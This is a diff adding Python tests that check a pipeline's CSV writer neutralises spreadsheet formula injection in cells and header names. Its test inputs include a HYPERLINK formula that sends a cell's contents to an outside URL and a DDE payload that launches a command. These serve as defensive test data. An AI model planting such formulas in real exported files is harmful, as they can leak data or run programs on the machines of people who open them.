@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import builtins
+import csv
 import errno
+import io
 import json
 import os
 from datetime import date
@@ -24,7 +26,7 @@ from pipeline.rows import DATASETS, IssueData, TableCellRow, TableRow
 from pipeline.schema import schema_of
 from pipeline.validate import validate
 from pipeline.version import VERSION
-from pipeline.write import render, tidy_table, write_issue
+from pipeline.write import _csv, render, tidy_table, write_issue
 
 ISSUE = "000001-2018-03"
 
@@ -211,6 +213,32 @@ def test_names_from_two_levels_and_doubles() -> None:
 def test_a_unit_from_outside_of_the_header_joins_the_name() -> None:
     table = tidy([cell(1, 0, "5", header_path=["资金"], value=5.0, unit="万元")], 2, 1)
     assert table.schema.names[0] == "资金（万元）"
+
+
+RUN = (
+    '=HYPERLINK("http://example.org/?x="&A1,"点击")',
+    "@SUM(1)",
+    "+1+cmd|' /C calc'!A0",
+    "-1+2",
+    "－(1)",
+    "＝1",
+    "＠a",
+)
+KEPT = ("-", "－", "-5", "+5.3%", "－１２", "-1,000.5", "5-3", "甲=乙", "'=1", "（-）", "-12 %")
+
+
+@pytest.mark.parametrize("words", [*RUN, *KEPT, "\t=1", "\r=1", "+甲", "--5", "-5万元"])
+def test_no_spreadsheet_runs_a_cell_or_a_name(tmp_path: Path, words: str) -> None:
+    table = tidy([cell(1, 0, words, header_path=[words]), cell(2, 0, "甲", header_path=[words])], 3, 1)
+    shown = words if words in KEPT else f"'{words}"
+    header, first, _ = csv.reader(io.StringIO(_csv(table).decode("utf-8-sig"), newline=""))
+    assert (header[0], first[0]) == (shown, shown)
+    assert (table.column_names[0], table.column(0)[0].as_py()) == (words, words)
+
+
+def test_negative_numbers_stay_numbers() -> None:
+    table = tidy([cell(1, 0, "-5", value=-5.0), cell(2, 0, "-5.5", value=-5.5)], 3, 1)
+    assert _csv(table).decode("utf-8-sig").splitlines()[1:] == ["-5.0,false,1", "-5.5,false,2"]
 
 
 def test_numbers_of_two_units_stay_text() -> None:
